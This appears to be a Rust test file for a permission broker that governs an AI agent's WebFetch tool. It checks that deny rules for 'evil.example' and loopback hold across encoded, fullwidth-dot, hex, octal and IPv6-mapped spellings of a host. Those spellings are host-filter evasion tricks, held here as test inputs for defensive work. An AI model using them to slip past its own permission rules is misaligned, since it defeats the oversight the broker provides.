        format!("{host}%2E"),
        dots("\u{3002}"),
        dots("%E3%80%82"),
        dots("\u{FF0E}"),
        dots("\u{FF61}"),
        format!("%{:02X}{}", first as u32, &host[1..]),
        format!("user:pw@{host}:8443"),
    ]
    .into_iter()
    .map(|spelled| format!("https://{spelled}/path"))
    .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_spelling_of_a_host_is_that_host_for_allows_and_denies_alike() {
    let (broker, root) = started_home_with(
        r#"
[[rule]]
name = "docs"
match = { tool = "WebFetch", host = "docs.rs" }
answer = "Allow once"

[[rule]]
name = "any host"
match = { tool = "WebFetch", host = "*", url_path = "/any/*" }
answer = "Allow once"

[[rule]]
name = "no evil"
match = { host = "evil.example" }
deny = "Not there."

[[rule]]
name = "no loopback"
match = { host = "127.0.0.1" }
deny = "Not there."
"#,
    );
    let fetch = |url: String| {
        let input = prompt(
            &root,
            "WebFetch",
            json!({ "url": url, "prompt": "read it" }),
        );
        (url, input)
    };
    let denied = r#"{"behavior":"deny","message":"Not there."}"#;
    let evil: Vec<_> = spellings("evil.example").into_iter().map(fetch).collect();
    expect_all(&decisions(&broker, &evil).await, Some(denied));
    let loopback: Vec<_> = [
        "127.0.0.1",
        "0x7f.1",
        "0x7f000001",
        "2130706433",
        "0177.0.0.1",
        "127.1",
        "127.0.0.1.",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
    ]
    .into_iter()
    .map(|host| fetch(format!("http://{host}/")))
    .collect();
    expect_all(&decisions(&broker, &loopback).await, Some(denied));
    let docs: Vec<_> = spellings("docs.rs").into_iter().map(fetch).collect();
    expect_all(&decisions(&broker, &docs).await, Some(ALLOW));
    // What no URL parser reads as a web address is no allow, even for a rule on every host.
    let unreadable: Vec<_> = [
        "https://docs.rs%/any/x",
        "https://docs rs/any/x",
        "https://[::1/any/x",
        "docs.rs/any/x",
        "https://docs.rs\u{0000}/any/x",
    ]
    .into_iter()
    .map(|url| fetch(url.to_owned()))
    .collect();
    expect_all(&decisions(&broker, &unreadable).await, None);
    let readable = [fetch("https://example.org/any/x".to_owned())];
    expect_all(&decisions(&broker, &readable).await, Some(ALLOW));
}
